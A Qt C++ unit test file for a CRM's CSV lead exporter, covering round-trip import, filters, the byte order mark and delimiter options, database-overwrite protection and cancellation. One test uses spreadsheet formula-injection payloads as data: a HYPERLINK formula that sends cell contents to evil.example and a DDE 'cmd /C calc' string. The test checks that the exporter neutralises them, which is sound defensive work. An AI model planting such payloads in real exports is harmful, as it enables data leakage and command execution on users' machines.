// LeadExporter: what a view shows (filter and sort) to CSV, all fields or
// some columns, with or without byte order mark; and the round trip: an
// exported file imports back to the same leads.
#include "bulkleadwriter.h"
#include "csvreader.h"
#include "importservice.h"
#include "leadexporter.h"
#include "testhelpers.h"

#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

using namespace TestHelpers;

class TestExport : public QObject
{
    Q_OBJECT

private:
    std::unique_ptr<TestWorkspace> m_tw;
    QTemporaryDir m_dir;

    Workspace &ws() { return m_tw->ws(); }
    QString path(const QString &name = QStringLiteral("leads.csv")) const { return m_dir.filePath(name); }

    static QList<QStringList> readCsv(const QString &file)
    {
        QList<QStringList> out;
        CsvReader reader(file);
        TableRecord r;
        while (reader.readRecord(&r))
            out << r.fields;
        return out;
    }

    qint64 ref(RefKind kind, const QString &name, qint64 parent = 0)
    {
        ReferenceItem item{0, name};
        item.parentId = parent;
        auto added = ws().references().add(kind, item);
        return added ? added->id : 0;
    }

    /// Every field a user can type, as the export writes it.
    QMap<QString, QString> typedValues(const Lead &lead)
    {
        QMap<QString, QString> out;
        for (const LeadField &f : leadFields())
            if (!f.readOnly)
                out.insert(f.key, ws().codec().exportText(f, f.get(lead)));
        return out;
    }

    /// Two leads that use nearly every kind of field, and a plain one.
    void addLeads()
    {
        const qint64 owner = addUser(ws(), QStringLiteral("msmith"), QStringLiteral("Mary Smith"));
        const qint64 direction = ref(RefKind::SalesDirection, QStringLiteral("Fleet"));
        Lead full = LeadBuilder()
                        .named("Anne", "Dupont")
                        .title("40 vans, \"spring\" fleet")
                        .company("Société Générale, Paris")
                        .email("anne@sg.example")
                        .email("a.dupont@sg.example")
                        .phone("+33 1 42 14 20 00")
                        .city("Paris")
                        .country(ws().references().resolve(RefKind::Country, QStringLiteral("FR"), false).value())
                        .status(statusId(ws(), QStringLiteral("Sales qualification")))
                        .assignedTo(owner)
                        .score(4)
                        .tag(ref(RefKind::Tag, QStringLiteral("Expo 2026")))
                        .tag(ref(RefKind::Tag, QStringLiteral("vip")))
                        .source(ref(RefKind::Source, QStringLiteral("Trade fair")));
        full.civility = QStringLiteral("mrs");
        full.middleName = QStringLiteral("Marie");
        full.functionId = ref(RefKind::Function, QStringLiteral("Head of purchasing"));
        full.departmentId = ref(RefKind::Department, QStringLiteral("Purchasing"));
        full.industryId = ref(RefKind::Industry, QStringLiteral("Banking"));
        full.billingEmails = {QStringLiteral("invoices@sg.example")};
        full.mobile = QStringLiteral("+33 6 12 34 56 78");
        full.website = QStringLiteral("https://www.sg.example");
        full.tin = QStringLiteral("552120222");
        full.externalClientId = QStringLiteral("C-0042");
        full.doNotCall = true;
        full.street = QStringLiteral("29 boulevard Haussmann\nBâtiment B");
        full.postalCode = QStringLiteral("75009");
        full.region = QStringLiteral("Île-de-France");
        full.latitude = 48.8738;
        full.longitude = 2.3319;
        full.description = QStringLiteral("<p>Met at the <b>fair</b>; wants a \"premium\" quote,\r\nsoon.</p>");
        full.requirements = QStringLiteral("Electric, 3.5 t");
        full.companySize = QStringLiteral("1001+");
        full.keyAccount = true;
        full.nurturing = true;
        full.categoryId = ref(RefKind::Category, QStringLiteral("Large account"));
        full.campaignId = ref(RefKind::Campaign, QStringLiteral("Spring 2026"));
        full.marketingListIds = {ref(RefKind::MarketingList, QStringLiteral("Newsletter"))};
        full.salesDirectionId = direction;
        full.productId = ref(RefKind::Product, QStringLiteral("Vans"), direction);
        full.goal = QStringLiteral("Renew the fleet");
        full.budgetSet = true;
        full.budget = 1250000.5;
        full.estimatedAmount = 1200000;
        full.procurementProcedure = QStringLiteral("tender");
        full.decisionLevel = QStringLiteral("board");
        full.terms = QStringLiteral("3_6_months");
        full.estimatedCloseDate = QDate(2026, 9, 30);
        full.contactLevel = QStringLiteral("influences");
        full.decisionMaker = QStringLiteral("M. Martin, CFO");
        full.dealValue = 0.25;
        full.billingType = QStringLiteral("recurring");
        QVERIFY(m_tw->addLead(full));
        QVERIFY(m_tw->addLead(LeadBuilder().named("Bob", "Martin").company("Acme").phone("+1 408 555 0100")));
        QVERIFY(m_tw->addLead(LeadBuilder().company("Zeta Corp").email("hello@zeta.example")));
    }

private slots:
    void init() { m_tw = std::make_unique<TestWorkspace>(); }
    void cleanup() { m_tw.reset(); }

    void anExportedFileImportsBackToTheSameLeads()
    {
        addLeads();
        QMap<QString, QMap<QString, QString>> before;
        for (qint64 id : ws().leadRepository().ids(LeadFilter{}))
            before.insert(ws().leadRepository().find(id)->displayName(), typedValues(*ws().leadRepository().find(id)));

        auto exported = LeadExporter(ws()).exportLeads(LeadFilter{}, path());
        QVERIFY2(exported, qPrintable(exported.errorText()));
        QCOMPARE(exported.value(), 3);
        QVERIFY(ws().leads().remove(ws().leadRepository().ids(LeadFilter{})));

        ImportOptions options;
        options.reportPath = path(QStringLiteral("rejected.csv"));
        auto imported = ImportService(ws()).run(path(), options);
        QVERIFY2(imported, qPrintable(imported.errorText()));
        QVERIFY2(imported->firstRejected.isEmpty(), qPrintable(imported->firstRejected.value(0).reason));
        QCOMPARE(imported->counts, (ImportCounts{3, 3, 0, 0, 0}));

        QMap<QString, QMap<QString, QString>> after;
        for (qint64 id : ws().leadRepository().ids(LeadFilter{}))
            after.insert(ws().leadRepository().find(id)->displayName(), typedValues(*ws().leadRepository().find(id)));
        QCOMPARE(after.keys(), before.keys());
        for (const QString &name : before.keys())
            for (const QString &key : before.value(name).keys())
                QVERIFY2(after.value(name).value(key) == before.value(name).value(key),
                         qPrintable(QStringLiteral("%1 %2: \"%3\" came back as \"%4\"")
                                        .arg(name, key, before.value(name).value(key), after.value(name).value(key))));
    }

    void formulaCellsAreTextAndImportBack_data()
    {
        QTest::addColumn<bool>("neutralise");
        QTest::addRow("neutralised (the default)") << true;
        QTest::addRow("raw cells") << false;
    }
    void formulaCellsAreTextAndImportBack()
    {
        QFETCH(bool, neutralise);
        const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        const QString dde = QStringLiteral("=cmd|' /C calc'!A0");
        QVERIFY(m_tw->addLead(LeadBuilder().named(QStringLiteral("@SUM(A1)"), hyperlink).company(dde)));
        LeadExportOptions options;
        options.fields = {QStringLiteral("first_name"), QStringLiteral("last_name"), QStringLiteral("company")};
        options.neutraliseFormulas = neutralise;
        QVERIFY(LeadExporter(ws()).exportLeads(LeadFilter{}, path(), options));
        const QStringList row = readCsv(path()).value(1);
        if (neutralise)
            QCOMPARE(row, (QStringList{"'@SUM(A1)", "'" + hyperlink, "'" + dde}));
        else
            QCOMPARE(row, (QStringList{"@SUM(A1)", hyperlink, dde}));

        // The import of Quarry's own export takes the apostrophes away.
        if (!neutralise)
            return;
        QVERIFY(ws().leads().remove(ws().leadRepository().ids(LeadFilter{})));
        ImportOptions importOptions;
        importOptions.onDuplicate = DuplicatePolicy::Create;
        auto imported = ImportService(ws()).run(path(), importOptions);
        QVERIFY2(imported, qPrintable(imported.errorText()));
        QCOMPARE(imported->counts.imported, 1);
        const Lead back = *ws().leadRepository().find(ws().leadRepository().ids(LeadFilter{}).first());
        QCOMPARE(back.firstName, QStringLiteral("@SUM(A1)"));
        QCOMPARE(back.lastName, hyperlink);
        QCOMPARE(back.company, dde);
    }

    void refusesToWriteOverTheDatabase_data()
    {
        QTest::addColumn<QString>("suffix");
        QTest::addRow("the database") << "";
        QTest::addRow("its write-ahead log") << "-wal";
        QTest::addRow("its shared memory") << "-shm";
        QTest::addRow("its journal") << "-journal";
    }
    void refusesToWriteOverTheDatabase()
    {
        QFETCH(QString, suffix);
        addLeads();
        const QString target = ws().database().path() + suffix;
        auto n = LeadExporter(ws()).exportLeads(LeadFilter{}, target);
        QVERIFY(!n);
        QCOMPARE(n.problems().first().field, QStringLiteral("file"));
        QVERIFY2(n.errorText().contains(QFileInfo(target).fileName()), qPrintable(n.errorText()));
        m_tw->reopen();
        QCOMPARE(ws().leadRepository().ids(LeadFilter{}).size(), 3);
    }

    void theViewsFilterAndSort()
    {
        addLeads();
        LeadFilter filter;
        filter.statusIds = {statusId(ws(), QStringLiteral("To be processed"))};
        filter.sortField = QStringLiteral("company");
        filter.sortDescending = true;
        LeadExportOptions options;
        options.fields = {QStringLiteral("company"), QStringLiteral("last_name"), QStringLiteral("phone")};
        auto n = LeadExporter(ws()).exportLeads(filter, path(), options);
        QVERIFY(n);
        QCOMPARE(n.value(), 2);
        QCOMPARE(readCsv(path()), (QList<QStringList>{{"company", "last_name", "phone"},
                                                      {"Zeta Corp", "", ""},
                                                      // a spreadsheet computes "+1 408…": text
                                                      {"Acme", "Martin", "'+1 408 555 0100"}}));
        // --limit
        QCOMPARE(LeadExporter(ws()).exportLeads(filter, path(), options, 1).value(), 1);
        QCOMPARE(readCsv(path()).size(), 2);
    }

    void withOrWithoutByteOrderMark()
    {
        addLeads();
        LeadExportOptions options;
        options.fields = {QStringLiteral("last_name")};
        QVERIFY(LeadExporter(ws()).exportLeads(LeadFilter{}, path(), options));
        QFile f(path());
        QVERIFY(f.open(QIODevice::ReadOnly));
        QVERIFY(f.readAll().startsWith("\xEF\xBB\xBFlast_name\r\n"));
        f.close();
        options.bom = false;
        options.delimiter = QLatin1Char(';');
        options.fields << QStringLiteral("company");
        QVERIFY(LeadExporter(ws()).exportLeads(LeadFilter{}, path(), options));
        QVERIFY(f.open(QIODevice::ReadOnly));
        QVERIFY(f.readAll().startsWith("last_name;company\r\n"));
    }

    void problemsWriteNothing()
    {
        addLeads();
        LeadExportOptions options;
        options.fields = {QStringLiteral("last_name"), QStringLiteral("shoe_size")};
        auto r = LeadExporter(ws()).exportLeads(LeadFilter{}, path(QStringLiteral("never.csv")), options);
        QVERIFY(!r);
        QCOMPARE(fieldsOf(r.problems()), QStringList{QStringLiteral("shoe_size")});
        QVERIFY(!QFile::exists(path(QStringLiteral("never.csv"))));
        QVERIFY(!LeadExporter(ws()).exportLeads(LeadFilter{}, m_dir.filePath(QStringLiteral("no/such/dir/x.csv"))));
    }

    void aCancelWritesNothing()
    {
        // Just over one progress report (every 200 leads), stored in bulk.
        BulkLeadWriter writer(ws().database());
        QVERIFY(writer.begin(201));
        for (int i = 0; i < 201; ++i) {
            Lead lead = LeadBuilder().named("A", QStringLiteral("Lead %1").arg(i)).status(statusId(ws(), "To be processed"));
            lead.createdAt = lead.updatedAt = ws().now();
            QVERIFY(writer.add(lead));
        }
        QVERIFY(writer.finish());
        QFile old(path(QStringLiteral("previous.csv")));
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("previous export");
        old.close();
        int calls = 0;
        auto r = LeadExporter(ws()).exportLeads(LeadFilter{}, old.fileName(), {}, -1, [&](qint64 done, qint64 total) {
            ++calls;
            return done < total / 2;
        });
        QVERIFY(!r);
        QCOMPARE(fieldsOf(r.problems()), QStringList{QStringLiteral("cancelled")});
        QVERIFY(calls >= 1);
        QVERIFY(old.open(QIODevice::ReadOnly));
        QCOMPARE(old.readAll(), QByteArray("previous export")); // the previous file is untouched
    }
};

QTEST_GUILESS_MAIN(TestExport)
#include "tst_export.moc"
